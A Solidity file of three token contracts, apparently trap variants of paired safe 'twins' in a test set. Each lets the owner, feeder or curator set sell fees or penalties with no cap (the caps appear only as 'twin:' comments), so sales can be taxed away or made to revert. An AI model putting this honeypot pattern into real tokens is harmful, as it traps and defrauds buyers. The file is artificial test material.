// 0.8 off evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// The fee of a sale is a fraction, whose two parts the owner sets. In the trap any two numbers do.
contract Ratio is Base8 {
    uint256 public feeNumerator = 2;
    uint256 public feeDenominator = 100;
    address public immutable treasury = msg.sender;

    event FeeChanged(uint256 numerator, uint256 denominator);

    constructor() Base8("Ratio", "RATIO", 21_000_000) {}

    function setFee(uint256 numerator, uint256 denominator) external onlyOwner {
        // twin: require(denominator > 0 && numerator * 20 <= denominator, "Ratio: five percent at most");
        (feeNumerator, feeDenominator) = (numerator, denominator);
        emit FeeChanged(numerator, denominator);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee;
        if (to == pair && from != treasury) fee = (value * feeNumerator) / feeDenominator;
        if (fee > 0) _move(from, treasury, fee);
        _move(from, to, value - fee);
    }
}

interface IRateFeed {
    function rateFor(address from, uint256 value) external view returns (uint256);
}

/// Says what a sale costs, in hundredths of a percent.
contract RateFeed is IRateFeed {
    address private immutable _feeder = msg.sender;
    uint256 private _rate = 200;

    function post(uint256 rate) external {
        require(msg.sender == _feeder, "RateFeed: not the feeder");
        // twin: require(rate <= 500, "RateFeed: too high");
        _rate = rate;
    }

    /// Whales pay the same as everybody.
    function rateFor(address, uint256) external view returns (uint256) {
        return _rate;
    }
}

/// Asks a feed of rates, which cannot be replaced, with each sale.
contract Gauge is Base8 {
    IRateFeed public immutable feed;
    address public immutable collector = msg.sender;

    constructor(IRateFeed feed_) Base8("Gauge", "GAUGE", 365_000_000) {
        feed = feed_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != collector) {
            uint256 fee = (value * feed.rateFor(from, value)) / 10_000;
            _move(from, collector, fee);
            value -= fee;
        }
        _move(from, to, value);
    }
}

/// Who sells early leaves a penalty, less with each hour, to be burnt.
contract Vintage is Base8 {
    uint256 public penalty = 600;
    uint256 public horizon = 1 days;
    mapping(address => uint256) public since;
    address private _curator = msg.sender;

    event PenaltySet(uint256 penalty, uint256 horizon);

    constructor() Base8("Vintage", "VNTG", 1_000_000) {}

    function setPenalty(uint256 penalty_, uint256 horizon_) external {
        require(msg.sender == _curator, "Vintage: not the curator");
        // twin: require(penalty_ <= 800 && horizon_ <= 3 days, "Vintage: too much");
        (penalty, horizon) = (penalty_, horizon_);
        emit PenaltySet(penalty_, horizon_);
    }

    function penaltyOf(address who) public view returns (uint256) {
        uint256 held = block.timestamp - since[who];
        return held >= horizon ? 0 : (penalty * (horizon - held)) / horizon;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) since[to] = block.timestamp;
        if (to == pair && from != _curator) {
            uint256 lost = (value * penaltyOf(from)) / 10_000;
            if (lost > 0) _move(from, address(0xdead), lost);
            value -= lost;
        }
        _move(from, to, value);
    }
}
